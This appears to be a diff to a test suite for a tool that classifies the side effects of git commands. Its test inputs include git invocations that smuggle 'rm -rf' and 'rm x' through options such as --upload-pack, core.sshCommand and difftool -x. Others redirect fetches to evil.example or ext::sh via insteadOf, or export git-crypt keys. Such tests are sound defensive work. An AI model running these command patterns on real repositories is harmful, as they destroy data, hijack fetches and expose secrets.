@@ -29,8 +29,6 @@ describe('what a git command runs', () => {
     [['git', 'filter-branch', '--tree-filter', 'rm x', 'HEAD']],
     [['git', 'grep', '-Orm x', 'a']],
     [['git', 'grep', '--open-files-in-pager=rm x', 'a']],
-    [['git', 'difftool', '-x', 'rm x']],
-    [['git', 'difftool', '--extc=rm x']],
     [['git', 'fetch', '--upload-pack', 'rm x', '.']],
     [['git', 'clone', '-u', 'rm x', 'a', 'b']],
     [['git', 'clone', '-c', 'core.sshCommand=rm x', 'a']],
@@ -46,6 +44,53 @@ describe('what a git command runs', () => {
     [['git', 'config', 'set', 'core.editor', 'rm x']],
   ])('%j', (words) => {
     expect(othersOf(words)).toContain(deletes);
+  });
+
+  it.each([[['git', 'difftool', '-x', 'rm -rf']], [['git', 'difftool', '--extc=rm -rf']]])(
+    '%j is given files of the worktree',
+    (words) => {
+      expect(othersOf(words).filter((each) => each.startsWith('file.delete'))).not.toEqual([]);
+    },
+  );
+
+  it.each([
+    ['git config core.fsmonitor true', 0],
+    ['git config --global credential.helper osxkeychain', 0],
+    ['git config credential.https://h.helper "cache --timeout 3600"', 0],
+    ['git -c url.https://h/.insteadOf=git@h: clone git@h:o/r', 0],
+    ['git -c url.ssh://git@h/.insteadOf=https://h/ fetch', 0],
+    ['git -c init.templateDir= init', 0],
+    ['git config core.fsmonitor ./x', 1],
+    ['git config core.sshCommand ./x', 1],
+    ['git config credential.helper store', 1],
+    ['git config credential.helper "!cache"', 1],
+    ['git -c url.https://evil.example/.insteadOf=https://h/ fetch', 1],
+    ['git -c url.https://h@evil.example/.insteadOf=https://h/ fetch', 1],
+    ['git -c url.ext::sh.insteadOf=https://h/ fetch', 1],
+    ['git -c url.ext::sh.insteadOf=ext::y fetch', 1],
+    ['git -c url.http://h/.insteadOf=https://h/ fetch', 1],
+    ['git -c init.templateDir=/tmp/t init', 1],
+  ])('%s makes %i settings of weight', (line, count) => {
+    const settings = analyse(line, SURROUNDINGS).actions.flatMap(
+      ({ params }) => params['config'] ?? [],
+    );
+    expect(settings).toHaveLength(count);
+  });
+
+  it('runs what stands before --help, where git does not take that as a question', () => {
+    const words = ['git', 'filter-branch', '--tree-filter', 'rm x', 'HEAD', '--help'];
+    expect(othersOf(words)).toContain(deletes);
+  });
+
+  it('hands out the keys and the text of what is encrypted', () => {
+    expect(othersOf('git crypt export-key k')).toEqual([
+      'secret.read kind=encryption-key',
+      'file.write file_path=k',
+    ]);
+    expect(othersOf('git-crypt export-key -')).toContain('secret.read kind=encryption-key');
+    expect(othersOf('git secret cat a')).toEqual(['secret.read kind=encrypted-file']);
+    expect(othersOf('git crypt status')).toEqual([]);
+    expect(othersOf('git secret list')).toEqual([]);
   });
 
   it('reads aliases as the commands they stand for', () => {
@@ -73,6 +118,8 @@ describe('what a git command runs', () => {
     ['git config core.sshCommand'],
     ['git config --unset core.pager'],
     ['git config user.name x'],
+    ['git -c url.https://h/.insteadOf=git@h: fetch'],
+    ['git -c credential.helper=osxkeychain fetch'],
     ['git commit -m !rm'],
     ['git grep -O a'],
   ])('%s runs nothing harmful', (line) => {
